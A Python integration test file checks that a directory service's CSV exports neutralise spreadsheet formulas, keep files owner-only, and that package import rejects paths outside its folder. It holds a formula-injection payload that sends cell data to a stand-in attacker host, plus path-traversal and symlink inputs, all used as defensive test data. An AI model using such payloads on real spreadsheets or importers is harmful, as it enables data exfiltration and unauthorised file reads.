"""What the project writes to disk is safe to open and to keep: no CSV cell a spreadsheet would run
as a formula (organization names are partner-editable), folders only their owner can enter and
files only their owner can read; and ``import-hsds`` reads nothing outside the package's folder.
A cell neutralised on export comes back as it was on import, so a phone ``+84 …`` survives."""

from __future__ import annotations

import csv
import json
import stat
import uuid
from collections.abc import Awaitable, Callable
from pathlib import Path

import asyncpg
import httpx
import pytest

from service.db import create_pool
from service.directory.hsds import package as hsds_package
from service.directory.repo import get_services
from tests.integration.conftest import Actors
from tests.integration.directory.hsds.test_hsds_cli import ketnoi
from tests.integration.directory.hsds.test_hsds_transfer import export, load, write_table
from tests.integration.listings import service_body

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ORGANIZATION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PHONE = "+84 292 3820 000"
NAME = "-Nhà tạm lánh @Cần Thơ"


def cells(folder: Path) -> list[tuple[str, str, str]]:
    """Every cell of every CSV in ``folder``: file, column, text."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                found += [(path.name, column, text) for column, text in row.items()]
    return found


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_formula_cells_are_neutralised_and_come_back_on_import(
    client: httpx.AsyncClient,
    pool: asyncpg.Pool,
    actors: Actors,
    migrated_db: Callable[[str], Awaitable[str]],
    tmp_path: Path,
) -> None:
    renamed = await client.patch(
        f"/api/v1/organizations/{actors.org}", headers=actors.partner.headers, json={"name": ORGANIZATION}
    )
    assert renamed.status_code == 200, renamed.text
    contact = {"kind": "phone", "value": PHONE, "hours": "", "is_24_7": False, "languages": ["vi"]}
    body = service_body(actors.org, name=NAME, contacts=[contact])
    body["locations"][0]["confidential"] = False
    created = await client.post("/api/v1/services", headers=actors.admin.headers, json=body)
    assert created.status_code == 201, created.text
    folder = tmp_path / "package"

    await export(pool, folder)

    written = cells(folder)
    assert any(text.endswith(ORGANIZATION) for _, _, text in written)
    assert any(text.endswith(PHONE) for _, _, text in written)
    formulas = [cell for cell in written if cell[2].startswith(FORMULA_STARTS) and not is_number(cell[2])]
    assert formulas == []

    elsewhere = await create_pool(await migrated_db("kn_export_safety"), min_size=1, max_size=2)
    try:
        report = await load(elsewhere, folder)
        assert report.rejected == []
        async with elsewhere.acquire() as conn:
            (service,) = await get_services(conn, [uuid.UUID(created.json()["id"])])
            organization = await conn.fetchval("SELECT name FROM organization WHERE id = $1", actors.org)
    finally:
        await elsewhere.close()
    assert (organization, service.name) == (ORGANIZATION, NAME)
    assert [c.value for c in service.contacts] == [PHONE]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


async def test_exports_are_readable_by_their_owner_only(pool: asyncpg.Pool, database_url: str, tmp_path: Path) -> None:
    package = tmp_path / "package"
    await export(pool, package)
    statistics = tmp_path / "statistics"
    done = ketnoi(database_url, "export-stats", str(statistics))
    assert done.returncode == 0, done.stdout + done.stderr

    for folder in (package, statistics):
        assert mode(folder) == 0o700, folder
        files = list(folder.iterdir())
        assert files and {path.name: mode(path) for path in files} == {path.name: 0o600 for path in files}


async def test_an_export_into_a_folder_others_can_read_is_refused(database_url: str, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)
    for command in ("export-stats", "export-hsds"):
        refused = ketnoi(database_url, command, str(shared))
        assert refused.returncode == 2, (command, refused.stdout + refused.stderr)
        assert "others" in refused.stdout, refused.stdout
        assert list(shared.iterdir()) == []


def outside_package(tmp_path: Path) -> tuple[Path, Path]:
    """A package folder, and a valid services table outside it."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    write_table(
        outside, "services.csv", ["id", "name", "status"], [["00000000-0000-4000-8000-000000000001", "x", "active"]]
    )
    package = tmp_path / "package"
    package.mkdir()
    return package, outside / "services.csv"


def describe(package: Path, services_path: str) -> None:
    descriptor = {"resources": [{"name": "service", "path": services_path}]}
    (package / "datapackage.json").write_text(json.dumps(descriptor), "utf-8")


@pytest.mark.parametrize("how", ["absolute", "parent", "symlink"])
async def test_import_reads_nothing_outside_the_package_folder(pool: asyncpg.Pool, tmp_path: Path, how: str) -> None:
    package, target = outside_package(tmp_path)
    if how == "absolute":
        describe(package, str(target))
    elif how == "parent":
        describe(package, "../elsewhere/services.csv")
    else:
        (package / "services.csv").symlink_to(target)
    with pytest.raises(hsds_package.PackageError, match="outside the package folder"):
        await load(pool, package)


async def test_import_hsds_says_why_it_refuses_a_path_outside_and_exits_2(database_url: str, tmp_path: Path) -> None:
    package, _ = outside_package(tmp_path)
    describe(package, "../elsewhere/services.csv")
    refused = ketnoi(database_url, "import-hsds", str(package))
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "outside the package folder" in refused.stdout
